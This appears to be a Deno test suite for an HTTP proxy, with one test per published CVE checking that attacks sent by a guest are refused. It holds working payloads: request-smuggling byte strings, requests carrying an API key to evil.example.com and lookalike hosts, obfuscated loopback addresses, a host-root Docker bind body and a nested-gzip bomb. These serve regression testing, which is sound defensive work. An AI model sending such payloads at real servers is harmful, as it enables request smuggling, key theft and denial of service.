/**
 * Published weaknesses of HTTP servers, clients and proxies, sent by a guest through the real proxy.
 * docs/design/cves.md
 */
import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { gzipSync } from "node:zlib";
import { isPrivateHost } from "../../../lib/base/address/mod.ts";
import { DnsService } from "../../../lib/network/dns/mod.ts";
import { added, KEY, world } from "../../helper/credential.ts";
import { TestGate } from "../../helper/gate.ts";
import { TestNet } from "../../helper/net.ts";
import { fixedUpstream, rawUpstream } from "../../helper/net_client.ts";
import { ask, read, records, TestResolver } from "../../helper/resolver.ts";

const HOST = "api.example.com";
const OK = "HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok";
const H = `Host: ${HOST}\r\n`;
const CHUNKED = `POST /public HTTP/1.1\r\n${H}Transfer-Encoding: chunked\r\n`;
/** What an attacker hides in a body: a request that a rule blocks. */
const INNER = `GET /admin HTTP/1.1\r\n${H}\r\n`;
const RULES = `
[profiles.rules.no-admin]
action = "block"
match = 'http.request.path.startsWith("/admin")'
`;

/**
 * Sends bytes of a guest, over TLS, past a rule that blocks /admin. The upstream must get no request for it,
 * in whatever way it reads what it is sent.
 * @returns first status
 */
async function smuggle(bytes: string): Promise<number> {
  let target = { hostname: "", port: 0 };
  await using net = await TestNet.open({ rules: RULES, target: () => target });
  let received = "";
  const upstream = rawUpstream(async (client) => {
    while (true) {
      received += await client.until("\r\n\r\n");
      const isChunked = /^transfer-encoding: chunked\r$/im.test(received);
      received += isChunked
        ? await client.until("\r\n0\r\n") + await client.until("\r\n")
        : await client.take(
          Number(/content-length: (\d+)/i.exec(received)?.[1] ?? 0),
        );
      await client.send(OK);
    }
  }, await net.leaf(HOST));
  target = upstream.target;
  const client = await net.tls(HOST);
  await client.send(bytes);
  const { status } = await client.answer();
  client.close();
  await net.idle();
  upstream.close();
  assertEquals(received.split("\r\n").filter((line) => /^\w+ \/admin\b/.test(line)), [], bytes);
  return status;
}

/** All of these are refused before a byte is sent. */
async function refuse(forms: string[]): Promise<void> {
  for (const form of forms) assertEquals(await smuggle(form), 400, JSON.stringify(form));
}

Deno.test("CVE-2025-22871: a chunk's size line that ends in a bare line feed is refused", () =>
  refuse([
    `${CHUNKED}\r\n2\nhi\r\n0\r\n\r\n${INNER}`,
    `${CHUNKED}\r\n2;x\nhi\r\n0\r\n\r\n${INNER}`,
    `${CHUNKED}\r\n0\n\r\n${INNER}`,
  ]));

Deno.test("CVE-2025-55315: an extension of a chunk with a line break of its own is refused", () =>
  refuse([
    `${CHUNKED}\r\n2;\nxx\r\n45\r\n0\r\n\r\n${INNER}`,
    `${CHUNKED}\r\n2;a=\rb\r\nhi\r\n0\r\n\r\n${INNER}`,
  ]));

Deno.test("CVE-2024-52304: an extension of a chunk in quotes hides no line", () =>
  refuse(
    [`${CHUNKED}\r\n2;a="\n"\r\nhi\r\n0\r\n\r\n`, `${CHUNKED}\r\n2;a="\r\nhi\r\n0\r\n\r\n${INNER}`].slice(
      0,
      1,
    ),
  ));

Deno.test("CVE-2025-43859: what follows a chunk's bytes is a line break and nothing else", () =>
  refuse([
    `${CHUNKED}\r\n2\r\nhixx0\r\n\r\n${INNER}`,
    `${CHUNKED}\r\n5\r\nAAAAAXX2\r\n45\r\n0\r\n\r\n${INNER}`,
    `${CHUNKED}\r\n2\r\nhi\n\r0\r\n\r\n`,
  ]));

Deno.test("CVE-2024-1135: a transfer coding that is not exactly chunked is refused, not ignored", () =>
  refuse([
    `POST / HTTP/1.1\r\n${H}Transfer-Encoding: chunked,gzip\r\nContent-Length: 6\r\n\r\n0\r\n\r\nG`,
    `POST / HTTP/1.1\r\n${H}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n`,
    `POST / HTTP/1.1\r\n${H}Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
  ]));

Deno.test("CVE-2024-6827: a transfer coding with a tail or a list is refused, also with a length", () =>
  refuse([
    `POST / HTTP/1.1\r\n${H}Transfer-Encoding: chunked;\r\nContent-Length: 1\r\n\r\nx`,
    `POST / HTTP/1.1\r\n${H}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n`,
    `POST / HTTP/1.1\r\n${H}Transfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n`,
  ]));

Deno.test("CVE-2024-23829: names of fields and separators that lenient parsers accept are refused", () =>
  refuse([
    `GET / HTTP/1.1\r\n${H}X(A): 1\r\n\r\n`,
    `GET / HTTP/1.1\r\n${H}Content-Length\x0b: 5\r\n\r\nhello`,
    `GET / HTTP/1.1\r\n${H}\u00e9: 1\r\n\r\n`,
    `GET / HTTP/1.1\n${H}\r\n`,
    `GET /\tHTTP/1.1\r\n${H}\r\n`,
    `GET / HTTP/1.01\r\n${H}\r\n`,
  ]));

Deno.test("CVE-2025-53643: trailers of a request hide no further one, and are read to their end", async () => {
  const trailers = `${CHUNKED}\r\n2\r\nhi\r\n0\r\nx: 1\r\n\r\n`;
  assertEquals(await smuggle(`${trailers}GET /public HTTP/1.1\r\n${H}\r\n`), 200);
  assertEquals(await smuggle(`${trailers}${INNER}`), 200);
  await refuse([
    `${CHUNKED}\r\n0\r\nGET /admin HTTP/1.1\r\n${H}\r\n`,
    `${CHUNKED}\r\n0\r\nx: 1\n\r\n${INNER}`,
  ]);
});

Deno.test("CVE-2025-23167: a head that ends in a carriage return and another byte is refused", () =>
  refuse([
    `GET / HTTP/1.1\r\n${H}X: 1\r\n\rX: 2\r\n\r\n`,
    `GET / HTTP/1.1\r\n${H}\r\r\n\r\n`,
    `GET / HTTP/1.1\r\n${H}X: 1\r\r\n\r\n`,
  ]));

Deno.test("CVE-2024-27982: a space in front of a length, or of any field, is refused", () =>
  refuse([
    `POST / HTTP/1.1\r\n${H} Content-Length: ${INNER.length}\r\n\r\n${INNER}`,
    `POST / HTTP/1.1\r\n Content-Length: 3\r\n${H}\r\nabc`,
    `POST / HTTP/1.1\r\n${H}Content-Length : 3\r\n\r\nabc`,
  ]));

Deno.test(
  "CVE-2025-27152: an absolute address in a request goes to no other host, and takes no key there",
  world(added, async ({ open, refs }) => {
    let target = { hostname: "", port: 0 };
    const dialled: string[] = [];
    await using net = await TestNet.open({
      broker: await open(),
      target: (host) => {
        dialled.push(host);
        return target;
      },
    });
    const upstream = fixedUpstream(OK, await net.leaf("api.anthropic.com"));
    target = upstream.target;
    for (
      const to of [
        "https://evil.example.com/v1",
        "https://evil.example.com:443/",
        "https://u@evil.example.com/",
      ]
    ) {
      const client = await net.tls("api.anthropic.com");
      const { status } = await client.ask(
        `GET ${to} HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: ${refs.anthropic}\r\n\r\n`,
      );
      client.close();
      assertEquals(status, 400, to);
    }
    const client = await net.tls("api.anthropic.com");
    await client.ask(
      `GET //evil.example.com/v1 HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: ${refs.anthropic}\r\n\r\n`,
    );
    client.close();
    upstream.close();
    assertEquals(upstream.requests.map((request) => request.split("\r\n")[0]), [
      "GET /evil.example.com/v1 HTTP/1.1",
    ]);
    assert(dialled.every((host) => !host.includes("evil")), dialled.join());
  }),
);

Deno.test(
  "CVE-2024-47081: a host that is written as a user name gets no key of the real one",
  world(added, async ({ open, refs }) => {
    let target = { hostname: "", port: 0 };
    await using net = await TestNet.open({ broker: await open(), target: () => target });
    const evil = fixedUpstream(OK, await net.leaf("evil.example.com"));
    target = evil.target;
    const key = `x-api-key: ${refs.anthropic}\r\n`;
    for (
      const [host, status] of [
        ["api.anthropic.com:@evil.example.com", 400],
        ["api.anthropic.com@evil.example.com", 400],
        ["evil.example.com", 403],
        ["api.anthropic.com", 403],
        ["api.anthropic.com.", 403],
      ] as const
    ) {
      const client = await net.tls("evil.example.com");
      const answer = await client.ask(`GET / HTTP/1.1\r\nHost: ${host}\r\n${key}\r\n`);
      client.close();
      assert(
        answer.status === status || answer.status === 400 || answer.status === 421,
        `${host} ${answer.status}`,
      );
    }
    evil.close();
    assert(!JSON.stringify(evil.requests).includes(KEY.anthropic));
    assertEquals(evil.requests.length, 0);
  }),
);

Deno.test(
  "CVE-2026-21852: an agent that is sent to another base address takes no key there",
  world(added, async ({ open, refs }) => {
    let target = { hostname: "", port: 0 };
    await using net = await TestNet.open({ broker: await open(), target: () => target });
    const host = "api.anthropic.com.evil.example.com";
    const evil = fixedUpstream(OK, await net.leaf(host));
    const plain = fixedUpstream(OK);
    const body = `{"model":"claude","max_tokens":1,"messages":[]}`;
    for (
      const field of [
        `x-api-key: ${refs.anthropic}`,
        `Authorization: Bearer ${refs.anthropic}`,
        `Authorization: Basic ${btoa(`x:${refs.anthropic}`)}`,
      ]
    ) {
      target = evil.target;
      const request =
        `POST /v1/messages HTTP/1.1\r\nHost: ${host}\r\n${field}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
      const client = await net.tls(host);
      assertEquals((await client.ask(request)).status, 403, field);
      client.close();
      target = plain.target;
      // The right name, without TLS: anybody on the way would read it.
      const open = await net.client(80);
      const answer = await open.ask(request.replace(host, "api.anthropic.com"));
      assertEquals(answer.status, 403, field);
      open.close();
    }
    evil.close();
    plain.close();
    assertEquals([evil.requests, plain.requests], [[], []]);
  }),
);

Deno.test(
  "CVE-2025-62168: an error of the proxy shows no key of the request",
  world(added, async ({ open, refs }) => {
    await using net = await TestNet.open({
      broker: await open(),
      // Nobody listens there.
      target: () => ({ hostname: "127.0.0.1", port: 1 }),
    });
    const client = await net.tls("api.anthropic.com");
    const { status, headers, body } = await client.ask(
      `GET /v1/models HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: ${refs.anthropic}\r\ncookie: s=of-the-guest\r\n\r\n`,
    );
    client.close();
    await net.idle();
    const shown = JSON.stringify([...headers]) + body;
    assert(status >= 500, String(status));
    assert(
      !shown.includes(KEY.anthropic) && !shown.includes("of-the-guest"),
      shown,
    );
    assert(!JSON.stringify(net.gate.entries).includes(KEY.anthropic));
  }),
);

Deno.test("CVE-2024-41110: a body that is announced as empty, or later, is read before a rule on it allows it", async () => {
  const rules = `
[profiles.rules.no-bind]
action = "block"
match = 'http.request.body.text.contains("Binds")'
`;
  const upstream = fixedUpstream(OK);
  await using net = await TestNet.open({ rules, target: () => upstream.target });
  const body = '{"HostConfig":{"Binds":["/:/host"]}}';
  const size = body.length.toString(16);
  const forms: [string, number][] = [
    [`Content-Length: ${body.length}\r\n\r\n${body}`, 403],
    [`Transfer-Encoding: chunked\r\n\r\n${size}\r\n${body}\r\n0\r\n\r\n`, 403],
    [`Content-Length: ${body.length}\r\nExpect: 100-continue\r\n\r\n${body}`, 403],
    [`Content-Length: 0\r\n\r\n`, 200],
    [`Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n${size}\r\n${body}\r\n0\r\n\r\n`, 400],
    [`Content-Length: 0\r\nContent-Length: ${body.length}\r\n\r\n${body}`, 400],
  ];
  for (const [form, expected] of forms) {
    const client = await net.client();
    await client.send(`POST /containers/create HTTP/1.1\r\n${H}${form}`);
    let { status } = await client.answer();
    if (status === 100) ({ status } = await client.answer());
    assertEquals(status, expected, form);
    client.close();
  }
  await net.idle();
  upstream.close();
  assert(!upstream.requests.join("").includes("Binds"));
});

Deno.test("CVE-2024-29415: spellings of loopback and private addresses that checks miss are private", () => {
  const addresses = [
    "127.1",
    "01200034567",
    "012.1.2.3",
    "000:0:0000::01",
    "::fFFf:127.0.0.1",
    "0x7f.1",
    "2130706433",
  ];
  for (const host of [...addresses, "[::ffff:7f00:1]", "0", "127.0.1", "0177.0.0.1", "::ffff:a00:1"]) {
    assert(isPrivateHost(host), host);
  }
});

Deno.test("CVE-2025-9074: a guest reaches no service of this machine, whatever it calls it", async () => {
  const engine = fixedUpstream(OK);
  const { port } = engine.target;
  await using net = await TestNet.open({ agrees: () => true, nameOf: () => undefined });
  for (const address of ["127.0.0.1", "192.168.65.7", "::1", "::ffff:127.0.0.1", "0.0.0.0", "172.17.0.1"]) {
    for (const host of [`${address.includes(":") ? `[${address}]` : address}:${port}`, `localhost:${port}`]) {
      const client = await net.client(port, address);
      const { status } = await client.ask(
        `POST /containers/create HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 2\r\n\r\n{}`,
      ).catch(() => ({ status: 0 }));
      client.close();
      assert([0, 403, 421, 400].includes(status), `${address} ${host}: ${status}`);
    }
  }
  await net.idle();
  engine.close();
  assertEquals(engine.requests, []);
});

Deno.test("CVE-2025-23217: a name that leads to this machine does not open its own API to a guest", async () => {
  const name = "innocent.example.com";
  const api = fixedUpstream(OK);
  const { port } = api.target;
  const resolver = await TestResolver.start(records({ name, type: "A", ttl: 60, data: "127.0.0.1" }));
  const gate = new TestGate(
    `[profiles.rules.all]\naction = "allow"\nmatch = 'dns.request.qname == "${name}"'\n`,
  );
  const dns = new DnsService({ gate, resolvers: [resolver.endpoint], tryMs: 30_000 });
  const { data } = read(await dns.answer(ask(name, "A"), { proto: "udp", process_name: "curl" }));
  assertEquals(data, []);
  await using net = await TestNet.open({
    agrees: (host, address) => dns.agrees(host, address),
    lookup: () => Promise.resolve(["127.0.0.1"]),
  });
  for (const address of ["127.0.0.1", "203.0.113.7"]) {
    const client = await net.client(port, address);
    const { status } = await client.ask(`GET /vms/list HTTP/1.1\r\nHost: ${name}:${port}\r\n\r\n`)
      .catch(() => ({ status: 0 }));
    client.close();
    assert(status === 0 || status === 403 || status === 421 || status >= 500, `${address}: ${status}`);
  }
  await net.idle();
  api.close();
  resolver.close();
  assertEquals(api.requests, []);
});

Deno.test("CVE-2025-66418: an answer in ten encodings, or in one that grows a thousandfold, is bounded", async () => {
  let bomb: Uint8Array = new Uint8Array(64 * 1024 * 1024);
  bomb = gzipSync(bomb);
  const once = bomb;
  for (let round = 0; round < 9; round++) bomb = gzipSync(bomb);
  const nested = Array(10).fill("gzip").join(", ");
  for (const [bytes, encoding] of [[once, "gzip"], [bomb, nested]] as const) {
    const upstream = rawUpstream(async (client) => {
      await client.until("\r\n\r\n");
      await client.send(
        `HTTP/1.1 200 OK\r\ncontent-encoding: ${encoding}\r\ncontent-length: ${bytes.length}\r\n\r\n`,
      );
      await client.send(bytes);
    });
    await using net = await TestNet.open({ target: () => upstream.target });
    const before = Deno.memoryUsage().rss;
    const client = await net.client();
    await client.send(`GET / HTTP/1.1\r\n${H}Connection: close\r\n\r\n`);
    const head = await client.until("\r\n\r\n");
    const chunk = new Uint8Array(65_536);
    for (let read: number | null = 0; read !== null;) read = await client.conn.read(chunk).catch(() => null);
    client.close();
    await net.idle();
    upstream.close();
    const recorded = JSON.stringify(net.gate.entries).length;
    assertStringIncludes(head, "HTTP/1.1 ");
    assert(recorded < 4 * 1024 * 1024, `${recorded} bytes are recorded`);
    assert(Deno.memoryUsage().rss - before < 256 * 1024 * 1024, encoding);
  }
});
